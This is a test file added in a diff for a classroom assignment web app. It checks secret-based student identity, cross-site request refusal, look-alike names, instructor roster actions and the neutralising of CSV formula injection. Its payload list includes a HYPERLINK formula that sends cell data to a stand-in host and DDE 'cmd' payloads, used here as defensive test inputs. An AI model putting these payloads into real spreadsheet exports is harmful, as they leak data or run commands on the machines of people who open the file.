@@ -1,0 +1,352 @@
+"""A student's identity (issue 15, points 1, 4 and 5): registration by POST with a personal secret, the cookie
+and the personal link, what a request without the secret may do (nothing), the instructor's roster, links,
+lock, reset and delete, CSV cells that a spreadsheet would run as formulas, and a name with "/".
+
+Each test names the failure it reproduces as the app behaved before (d0a7cb5): a GET by name registered a
+student and showed anyone their answers, "IVAN  PETROV" spent "Ivan Petrov"'s attempts, "Пётр" and a Latin name
+with a Cyrillic "о" became second students who look the same, CSV cells ran as formulas, "/" gave 404.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from fastapi.testclient import TestClient
+
+from server.api import assignment_store
+from server.api.app import app
+from server.api.csv_export import safe_cell
+from server.classroom.identity import secret_hash
+from server.classroom.names import clean
+
+API = "/api/v1/assignments"
+FLYWHEEL = {"scene": "flywheel", "variant": "rig", "title": "Lab 5",
+            "sliders": {"delta": {"vary": {"min": 0.01, "max": 0.05}, "step": 0.001}, "omega_mean": {"value": 50}},
+            "questions": [{"id": "flywheel_inertia"}], "attempts": 3, "reveal_answers": True}
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3", "\t=1+1", "\r=1+1"]
+NAMES = list(dict.fromkeys(clean(p) for p in PAYLOADS))      # as registered: a leading tab or CR is not kept
+
+
+@pytest.fixture()
+def client(tmp_path, monkeypatch) -> TestClient:
+    monkeypatch.setenv("MDL_DATA_DIR", str(tmp_path))
+    assignment_store.store.cache_clear()
+    yield TestClient(app)
+    assignment_store.store.cache_clear()
+
+
+@pytest.fixture()
+def created(client) -> dict:
+    response = client.post(API, json=FLYWHEEL)
+    assert response.status_code == 201, response.text
+    return response.json()
+
+
+def fresh(client) -> TestClient:
+    """Another browser (no cookies) on the same app and database."""
+    return TestClient(client.app, base_url=str(client.base_url))
+
+
+def on_start_page(client, created, lang="en") -> TestClient:
+    """Another browser that has opened the students' link (and so holds the pages' mdl_client cookie)."""
+    browser = fresh(client)
+    assert 'method="post"' in browser.get(f"/assignments/{created['id']}", params={"lang": lang}).text
+    return browser
+
+
+def register(client, created, name, **headers):
+    return client.post(f"{API}/{created['id']}/students", json={"name": name}, headers=headers)
+
+
+def secret_of(client, created, name) -> str:
+    response = register(fresh(client), created, name)
+    assert response.status_code == 201, response.text
+    return response.json()["secret"]
+
+
+def bearer(secret: str) -> dict:
+    return {"Authorization": f"Bearer {secret}"}
+
+
+def submit(client, created, answer, headers=None, **extra):
+    return client.post(f"{API}/{created['id']}/submissions",
+                       json={"question": "flywheel_inertia", "answer": answer} | extra, headers=headers or {})
+
+
+def results(client, created) -> list[dict]:
+    return client.get(f"{API}/{created['id']}/results/{created['results_token']}").json()["students"]
+
+
+def refusal(response) -> dict:
+    return response.json()["detail"][0]
+
+
+# --- point 1: a student is a secret, not a typed name ----------------------------------------------------------
+
+def test_a_classmate_cannot_be_read_by_name(client, created):
+    """Before: GET …/students/Ivan Petrov answered anyone with Ivan's answers and right/wrong."""
+    mine = bearer(secret_of(client, created, "Ivan Petrov"))
+    assert submit(client, created, 1.0, mine).status_code == 200
+    stranger = fresh(client)
+    assert stranger.get(f"{API}/{created['id']}/students/Ivan Petrov").status_code in (404, 405)
+    no_secret = stranger.get(f"{API}/{created['id']}/me")
+    assert no_secret.status_code == 401 and refusal(no_secret)["type"] == "no_secret"
+    forged = stranger.get(f"{API}/{created['id']}/me", headers=bearer("A" * 32))
+    assert forged.status_code == 403 and refusal(forged)["type"] == "unknown_secret"
+    own = stranger.get(f"{API}/{created['id']}/me", headers=mine).json()
+    assert own["student"] == "Ivan Petrov" and own["questions"][0]["answers"] == [1.0]
+
+
+def test_a_bare_get_registers_nobody(client, created):
+    """Before: a GET (an <img> on any site) registered a student; 1,953 fake rows in 50 s."""
+    stranger = fresh(client)
+    for url in (f"{API}/{created['id']}/students/Eve", f"/assignments/{created['id']}?student=Eve",
+                f"/assignments/{created['id']}/me/Eve"):
+        stranger.get(url)
+    assert results(client, created) == []
+    start = stranger.get(f"/assignments/{created['id']}?student=Eve")
+    assert start.status_code == 200 and 'method="post"' in start.text and 'id="assignment-data"' not in start.text
+
+
+def test_another_spelling_cannot_spend_a_students_attempts(client, created):
+    """Before: "IVAN  PETROV" submitted as attempt 2 of "Ivan Petrov"."""
+    ivan = bearer(secret_of(client, created, "Ivan Petrov"))
+    submit(client, created, 1.0, ivan)
+    stranger = fresh(client)
+    taken = register(stranger, created, "IVAN  PETROV")
+    assert taken.status_code == 409 and refusal(taken)["type"] == "name_taken"
+    assert refusal(taken)["name"] == "Ivan Petrov" and "personal link" in refusal(taken)["msg"]
+    anonymous = submit(stranger, created, 2.0, student="IVAN  PETROV")
+    assert anonymous.status_code == 401
+    assert results(client, created)[0]["attempts"] == 1
+
+
+def test_yo_and_ye_are_one_student(client, created):
+    """Before: "Пётр" and "Петр" were two students with two variants and fresh attempts."""
+    secret_of(client, created, "Пётр")
+    again = register(fresh(client), created, "Петр")
+    assert again.status_code == 409 and refusal(again)["name"] == "Пётр"
+    assert [row["student"] for row in results(client, created)] == ["Пётр"]
+
+
+def test_look_alike_names_are_refused_naming_the_registered_one(client, created):
+    """Before: "Ivan" with a Cyrillic "о"/"а" made a second student who looks identical in the results."""
+    secret_of(client, created, "Popa Ivan")
+    mixed = register(fresh(client), created, "Pop\u0430 Ivan")                     # Cyrillic а
+    assert mixed.status_code == 422 and refusal(mixed)["type"] == "name_mixed_scripts"
+    assert refusal(mixed)["letter"] == "\u0430" and refusal(mixed)["loc"] == ["body", "name"]
+    look_alike = register(fresh(client), created, "Рора Ivan")                     # all-Cyrillic word
+    assert look_alike.status_code == 409 and refusal(look_alike)["type"] == "name_confusable"
+    assert refusal(look_alike)["resembles"] == "Popa Ivan"
+    assert len(results(client, created)) == 1
+
+
+def test_registering_again_with_ones_own_secret_changes_nothing(client, created):
+    browser = fresh(client)
+    first = register(browser, created, "Olena")
+    assert first.status_code == 201 and first.json()["personal_url"].endswith(first.json()["secret"])
+    again = register(browser, created, "OLENA")                     # the cookie says who this is
+    assert again.status_code == 200 and again.json()["secret"] is None
+    assert browser.get(f"{API}/{created['id']}/me").json()["student"] == "Olena"
+
+
+def test_a_submission_naming_someone_else_is_refused(client, created):
+    secret_of(client, created, "Taras")
+    mine = bearer(secret_of(client, created, "Lesya"))
+    refused = submit(client, created, 1.0, mine, student="Taras")
+    assert refused.status_code == 403 and refusal(refused)["type"] == "not_your_name"
+    assert submit(client, created, 1.0, mine, student="LESYA").status_code == 200
+
+
+def test_the_cookie_is_httponly_samesite_scoped_and_secure_over_https(client, created):
+    secure = TestClient(client.app, base_url="https://testserver")
+    response = register(secure, created, "Bohdan")
+    cookies = response.headers.get_list("set-cookie")
+    assert len(cookies) == 2 and all("HttpOnly" in c and "Secure" in c for c in cookies)
+    by_path = {re.search(r"Path=([^;]+)", c).group(1): c for c in cookies}
+    assert "SameSite=lax" in by_path[f"/assignments/{created['id']}"]
+    assert "SameSite=strict" in by_path[f"{API}/{created['id']}"]
+    assert "Secure" not in register(fresh(client), created, "Ostap").headers["set-cookie"]   # plain http
+    stored = assignment_store.store().student_by_secret(created["id"], secret_hash(response.json()["secret"]))
+    assert stored.name == "Bohdan" and stored.secret_hash != response.json()["secret"]       # only the hash
+
+
+def test_the_personal_link_lets_the_student_in_on_another_device(client, created):
+    phone, laptop = fresh(client), fresh(client)
+    secret = register(phone, created, "Marko").json()["secret"]
+    submit(phone, created, 1.0)                                        # the cookie identifies the student
+    opened = laptop.get(f"/assignments/{created['id']}/me/{secret}", follow_redirects=False)
+    assert opened.status_code == 303 and opened.headers["location"].startswith(f"/assignments/{created['id']}")
+    page = laptop.get(opened.headers["location"])
+    assert 'id="assignment-data"' in page.text and "Marko" in page.text
+    assert laptop.get(f"{API}/{created['id']}/me").json()["questions"][0]["attempts_used"] == 1
+    wrong = fresh(client).get(f"/assignments/{created['id']}/me/{'B' * 32}")
+    assert wrong.status_code == 404 and 'method="post"' in wrong.text
+
+
+def test_the_name_form_registers_shows_the_link_once_and_refuses_in_the_readers_language(client, created):
+    browser = on_start_page(client, created, "ru")
+    page = browser.post(f"/assignments/{created['id']}?lang=ru", data={"student": "Ганна Коваль"})
+    assert page.status_code == 201
+    link = re.search(r'id="personal-link" readonly value="([^"]+)"', page.text).group(1)
+    assert re.search(rf"/assignments/{created['id']}/me/[\w-]{{32}}\?lang=ru$", link)
+    assert 'id="assignment-data"' in browser.get(f"/assignments/{created['id']}").text       # the cookie
+    assert "personal-link" not in browser.get(f"/assignments/{created['id']}").text          # shown once
+    taken = on_start_page(client, created).post(f"/assignments/{created['id']}?lang=ru", data={"student": "ганна  коваль"})
+    assert taken.status_code == 409 and "Имя «Ганна Коваль» уже зарегистрировано" in taken.text
+    mixed = on_start_page(client, created).post(f"/assignments/{created['id']}?lang=uk", data={"student": "Ivаn"})
+    assert mixed.status_code == 422 and "«а» — кирилична літера" in mixed.text
+    other_site = on_start_page(client, created).post(f"/assignments/{created['id']}", data={"student": "Mallory"},
+                                                     headers={"Origin": "https://evil.example"})
+    assert other_site.status_code == 403 and len(results(client, created)) == 1
+    forged = fresh(client).post(f"/assignments/{created['id']}", data={"student": "Mallory"},   # no page cookie:
+                                headers={"Origin": "null"})                                  # another site's form
+    assert forged.status_code == 403 and "с другого сайта" in forged.text and len(results(client, created)) == 1
+    api_other_site = register(fresh(client), created, "Mallory", **{"Sec-Fetch-Site": "cross-site"})
+    assert api_other_site.status_code == 403 and len(results(client, created)) == 1
+
+
+def test_not_me_forgets_the_secret_on_this_browser_only(client, created):
+    browser = fresh(client)
+    secret = register(browser, created, "Iryna").json()["secret"]
+    left = browser.post(f"/assignments/{created['id']}/leave", follow_redirects=False)
+    assert left.status_code == 303
+    assert browser.get(f"{API}/{created['id']}/me").status_code == 401
+    assert browser.get(f"{API}/{created['id']}/me", headers=bearer(secret)).status_code == 200
+
+
+# --- the instructor: roster, lock, links, reset, delete --------------------------------------------------------
+
+def instructor(created) -> str:
+    return f"{API}/{created['id']}/results/{created['results_token']}"
+
+
+def test_a_roster_puts_names_on_with_their_variants_and_refuses_look_alikes(client, created):
+    secret_of(client, created, "Ivan Petrov")
+    uploaded = client.post(f"{instructor(created)}/roster", json={
+        "names": "ФИО;Группа\nIVAN PETROV;КМ-21\nОлена Шевчук;КМ-21\nOлена Шевчук;КМ-21\nPetrо Ivanov;КМ-21\n;КМ-22\n"})
+    outcome = uploaded.json()
+    assert outcome["added"] == ["Олена Шевчук"] and outcome["already"] == ["Ivan Petrov"]
+    assert [r["line"] for r in outcome["refused"]] == [";КМ-22", "Oлена Шевчук", "Petrо Ivanov"]
+    rows = {row["student"]: row for row in results(client, created)}
+    assert rows["Олена Шевчук"]["on_roster"] and not rows["Олена Шевчук"]["has_link"]
+    assert not rows["Ivan Petrov"]["on_roster"] and rows["Ivan Petrov"]["has_link"]
+
+
+def test_locked_registration_takes_only_roster_names_each_once(client, created):
+    client.post(f"{instructor(created)}/roster", json={"names": "Olena Shevchuk\nTaras Bulba", "lock": True})
+    stranger = register(fresh(client), created, "Mallory")
+    assert stranger.status_code == 403 and refusal(stranger)["type"] == "roster_locked"
+    claimed = register(fresh(client), created, "olena  shevchuk")
+    assert claimed.status_code == 201 and claimed.json()["student"] == "Olena Shevchuk"
+    assert register(fresh(client), created, "Olena Shevchuk").status_code == 409
+    assert client.put(f"{instructor(created)}/roster-lock", json={"locked": False}).json() == {"locked": False}
+    assert register(fresh(client), created, "Mallory").status_code == 201
+
+
+def test_personal_links_csv_makes_new_links_and_ends_the_old(client, created):
+    old = secret_of(client, created, "Ivan Petrov")
+    client.post(f"{instructor(created)}/roster", json={"names": "KM-21/1 Ivanov\n" + "\n".join(PAYLOADS)})
+    assert len(NAMES) == 5                              # "\t=1+1" and "\r=1+1" are one name, "=1+1"
+    only_new = client.post(f"{instructor(created)}/links?only_new=true")
+    assert only_new.headers["content-type"].startswith("text/csv") and only_new.text.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(only_new.text.lstrip("\ufeff"))))
+    assert "Ivan Petrov" not in {r["student"] for r in rows} and len(rows) == 1 + len(NAMES)
+    assert {r["student"] for r in rows} == {"KM-21/1 Ivanov"} | {"'" + name for name in NAMES}
+    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 200     # untouched
+    for row in rows:                                    # every link works, in a browser of its own
+        browser = fresh(client)
+        browser.get(row["personal_link"].replace(str(client.base_url), ""))
+        assert browser.get(f"{API}/{created['id']}/me").json()["variant"] == int(row["variant"])
+    every = list(csv.DictReader(io.StringIO(client.post(f"{instructor(created)}/links").text.lstrip("\ufeff"))))
+    assert len(every) == 2 + len(NAMES)
+    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 403     # ended
+
+
+def test_the_instructor_resets_one_link_and_deletes_a_row_with_its_submissions(client, created):
+    old = secret_of(client, created, "Ivan Petrov")
+    other = bearer(secret_of(client, created, "Taras"))
+    submit(client, created, 1.0, bearer(old))
+    submit(client, created, 1.0, other)
+    ivan, taras = sorted(results(client, created), key=lambda row: row["student"])
+    renewed = client.post(f"{instructor(created)}/students/{ivan['id']}/link").json()
+    assert renewed["student"] == "Ivan Petrov"
+    assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 403
+    new = renewed["personal_url"].rsplit("/", 1)[1].split("?")[0]
+    assert client.get(f"{API}/{created['id']}/me", headers=bearer(new)).json()["questions"][0]["attempts_used"] == 1
+    assert client.delete(f"{instructor(created)}/students/{taras['id']}").status_code == 204
+    assert [row["student"] for row in results(client, created)] == ["Ivan Petrov"]
+    assert assignment_store.store().submissions(created["id"], "taras") == []
+    assert submit(client, created, 1.0, other).status_code == 403                 # the deleted student's secret
+    assert client.delete(f"{instructor(created)}/students/{taras['id']}").status_code == 404
+
+
+def test_instructor_actions_need_the_token(client, created):
+    secret_of(client, created, "Ivan")
+    row = results(client, created)[0]
+    wrong = f"{API}/{created['id']}/results/not-the-token"
+    assert client.post(f"{wrong}/roster", json={"names": "Eve"}).status_code == 404
+    assert client.put(f"{wrong}/roster-lock", json={"locked": True}).status_code == 404
+    assert client.post(f"{wrong}/links").status_code == 404
+    assert client.post(f"{wrong}/students/{row['id']}/link").status_code == 404
+    assert client.delete(f"{wrong}/students/{row['id']}").status_code == 404
+    assert len(results(client, created)) == 1 and results(client, created)[0]["has_link"]
+
+
+def test_the_results_page_offers_the_roster_and_the_row_actions(client, created):
+    secret_of(client, created, "Ivan")
+    page = client.get(f"/assignments/{created['id']}/results/{created['results_token']}", params={"lang": "uk"})
+    assert page.status_code == 200
+    for marker in ('id="roster-form"', 'id="roster-lock"', "links?only_new=true", 'class="button secondary delete-student"',
+                   "Студенти та особисті посилання", "assignment_results.js"):
+        assert marker in page.text
+
+
+# --- point 4: CSV formula injection ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_every_formula_payload_is_written_as_text(payload):
+    """Before: each of the six started a cell that a spreadsheet runs; the tab and CR ones after the
+    spreadsheet strips the leading whitespace. The prefix goes on the raw text, before anything strips it."""
+    assert safe_cell(payload) == "'" + payload
+    assert safe_cell(-1.5) == "-1.5" and safe_cell(-2) == -2 and safe_cell("Ivan") == "Ivan" and safe_cell(None) == ""
+
+
+def test_the_results_csv_neutralises_names_and_keeps_negative_numbers(client, created):
+    for payload in PAYLOADS[:-1]:                      # the CR payload registers as the tab one: "=1+1"
+        submit(client, created, -1.5, bearer(secret_of(client, created, payload)))
+    table = client.get(f"{instructor(created)}/csv").text.lstrip("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(table)))
+    assert [row["student"] for row in rows] == ["'" + name for name in NAMES]
+    for row in rows:
+        assert row["flywheel_inertia answer"] == "-1.5" and float(row["flywheel_inertia correct"]) > 0
+    for cell in (c for row in csv.reader(io.StringIO(table)) for c in row):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        if cell.startswith("-"):
+            float(cell)                                 # a number the app wrote, or the test fails here
+
+
+def test_a_table_cell_starting_with_a_minus_is_a_number_or_prefixed(client, created):
+    """The app's own negative numbers stay numbers (a spreadsheet reads them as such); a name never starts a
+    cell with "-" unprefixed."""
+    submit(client, created, -2e-5, bearer(secret_of(client, created, "-1")))
+    row = next(csv.DictReader(io.StringIO(client.get(f"{instructor(created)}/csv").text.lstrip("\ufeff"))))
+    assert row["student"] == "'-1" and float(row["flywheel_inertia answer"]) == -2e-5
+
+
+# --- point 5: a name with "/" ----------------------------------------------------------------------------------
+
+def test_a_name_with_a_slash_works_end_to_end(client, created):
+    """Before: "KM-21/1 Ivanov" got 404 (the name was a path segment)."""
+    browser = on_start_page(client, created)
+    page = browser.post(f"/assignments/{created['id']}?lang=en", data={"student": "KM-21/1 Ivanov"})
+    assert page.status_code == 201
+    scene = browser.get(f"/assignments/{created['id']}")
+    assert scene.status_code == 200 and "KM-21/1 Ivanov" in scene.text
+    assert browser.get(f"{API}/{created['id']}/me").json()["student"] == "KM-21/1 Ivanov"
+    outcome = submit(browser, created, 1.0, student="KM-21/1 Ivanov")
+    assert outcome.status_code == 200 and outcome.json()["attempt"] == 1
+    assert results(client, created)[0]["student"] == "KM-21/1 Ivanov"
